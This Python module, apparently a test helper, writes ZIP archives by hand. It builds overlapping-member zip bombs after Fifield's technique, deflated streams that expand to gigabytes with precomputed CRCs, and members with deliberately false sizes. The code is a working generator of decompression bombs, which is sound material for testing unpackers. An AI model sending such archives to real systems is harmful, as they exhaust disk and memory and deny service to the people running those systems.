"""ZIP files written by hand, so that they can lie, overlap and unpack to gigabytes at once.

The CRC of a repeated block is computed from that of one (Mark Adler's ``crc32_combine`` in zlib:
appending n bytes multiplies by x^8n modulo the polynomial), and its deflated form is that of one
block, repeated: a full flush ends at a byte and forgets what came before.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, replace

POLYNOMIAL = 0xEDB88320
STORED, DEFLATED = 0, 8
ENCRYPTED, UTF8 = 0x1, 0x800
DATE = 0x0021  # 1 January 1980
MEGABYTE = 1 << 20
LIMIT_16, LIMIT_32 = 0xFFFF, 0xFFFFFFFF


@dataclass(frozen=True)
class Packed:
    """Bytes as they stand in an archive, with what they unpack to."""

    data: bytes
    crc: int
    size: int
    method: int = DEFLATED


@dataclass(frozen=True)
class Member:
    """One entry; ``name`` in the bytes of the archive, ``mode`` as of Unix."""

    name: bytes
    packed: Packed
    flags: int = UTF8
    mode: int = 0o100644


def packed(data: bytes) -> Packed:
    """Data, deflated."""
    return Packed(_deflated(data, zlib.Z_FINISH), zlib.crc32(data), len(data))


def stored(data: bytes) -> Packed:
    """Data as it is."""
    return Packed(data, zlib.crc32(data), len(data), STORED)


def repeated(block: bytes, times: int, before: bytes = b"", after: bytes = b"") -> Packed:
    """``before``, ``times`` times ``block``, and ``after``, deflated without ever being whole."""
    data = b"".join(
        (
            _deflated(before, zlib.Z_FULL_FLUSH),
            _deflated(block, zlib.Z_FULL_FLUSH) * times,
            _deflated(after, zlib.Z_FINISH),
        )
    )
    crc = joined(zlib.crc32(before), repeated_crc(block, times), len(block) * times)
    crc = joined(crc, zlib.crc32(after), len(after))
    return Packed(data, crc, len(before) + len(block) * times + len(after))


def _deflated(data: bytes, ending: int) -> bytes:
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    return deflater.compress(data) + deflater.flush(ending)


def joined(first: int, second: int, length: int) -> int:
    """The CRC of two stretches from theirs, the second being ``length`` bytes long."""
    return _product(_power(8 * length), first) ^ second


def repeated_crc(block: bytes, times: int) -> int:
    """The CRC of a block repeated, by doubling."""
    total, length, unit, size = 0, 0, zlib.crc32(block), len(block)
    while times:
        if times & 1:
            total, length = joined(total, unit, size), length + size
        unit, size, times = joined(unit, unit, size), 2 * size, times >> 1
    return total


def _product(a: int, b: int) -> int:
    """a times b modulo the polynomial, the lowest power in the highest bit."""
    result, bit = 0, 1 << 31
    while bit:
        if a & bit:
            result ^= b
        b = (b >> 1) ^ (POLYNOMIAL if b & 1 else 0)
        bit >>= 1
    return result


def _power(n: int) -> int:
    """x to the power n modulo the polynomial."""
    result, square = 1 << 31, 1 << 30
    while n:
        if n & 1:
            result = _product(result, square)
        square, n = _product(square, square), n >> 1
    return result


def archive(members: Iterable[Member]) -> bytes:
    """The archive of these members, with nothing checked."""
    parts: list[bytes] = []
    directory: list[bytes] = []
    at = 0
    for member in members:
        head = local_header(member)
        directory.append(central_header(member, at))
        parts += (head, member.packed.data)
        at += len(head) + len(member.packed.data)
    return b"".join(parts) + ending(directory, at)


def archive_of(files: dict[str, bytes]) -> bytes:
    """An ordinary archive of these files."""
    return archive(Member(name.encode(), packed(data)) for name, data in files.items())


def local_header(member: Member) -> bytes:
    """What stands before the member's data; sizes beyond 4 GB follow in an extra field."""
    one = member.packed
    big = one.size > LIMIT_32
    extra = struct.pack("<HHQQ", 1, 16, one.size, len(one.data)) if big else b""
    size, length = (LIMIT_32, LIMIT_32) if big else (one.size, len(one.data))
    fixed = (b"PK\3\4", 45, member.flags, one.method, 0, DATE, one.crc, length, size)
    lengths = (len(member.name), len(extra))
    return struct.pack("<4sHHHHHIIIHH", *fixed, *lengths) + member.name + extra


def central_header(member: Member, at: int) -> bytes:
    """The member's entry in the directory; its local header begins at byte ``at``."""
    one = member.packed
    big = one.size > LIMIT_32
    extra = struct.pack("<HHQQ", 1, 16, one.size, len(one.data)) if big else b""
    size, length = (LIMIT_32, LIMIT_32) if big else (one.size, len(one.data))
    fixed = (b"PK\1\2", 0x032D, 45, member.flags, one.method, 0, DATE, one.crc, length, size)
    rest = (len(member.name), len(extra), 0, 0, 0, member.mode << 16, at)
    return struct.pack("<4sHHHHHHIIIHHHHHII", *fixed, *rest) + member.name + extra


def ending(directory: Sequence[bytes], at: int) -> bytes:
    """The directory, which begins at byte ``at``, and what closes the archive."""
    whole, count = b"".join(directory), len(directory)
    far = b""
    if count > LIMIT_16:
        far = struct.pack(
            "<4sQHHIIQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, count, count, len(whole), at
        ) + struct.pack("<4sIQI", b"PK\6\7", 0, at + len(whole), 1)
    said = min(count, LIMIT_16)
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, said, said, len(whole), at, 0)
    return whole + far + end


def overlapping(count: int, kernel: Packed) -> bytes:
    """``count`` members that share the data of ``kernel``, each quoting the headers after its own
    as a stored block (David Fifield, "A better zip bomb", WOOT 2019)."""
    members: list[Member] = []
    following, rest = b"", kernel
    for number in reversed(range(count)):
        if following:
            quote = struct.pack("<BHH", 0, len(following), len(following) ^ LIMIT_16)
            crc = joined(zlib.crc32(following), rest.crc, rest.size)
            data = quote + following + rest.data
            rest = Packed(data, crc, rest.size + len(following))
        member = Member(b"%05d.txt" % number, rest)
        following = local_header(member)
        members.append(member)
    members.reverse()
    data = following + members[0].packed.data
    directory = [
        central_header(one, len(data) - len(one.packed.data) - len(local_header(one)))
        for one in members
    ]
    return data + ending(directory, len(data))


def lying(member: Member, size: int) -> Member:
    """The member with a false size."""
    return replace(member, packed=replace(member.packed, size=size))
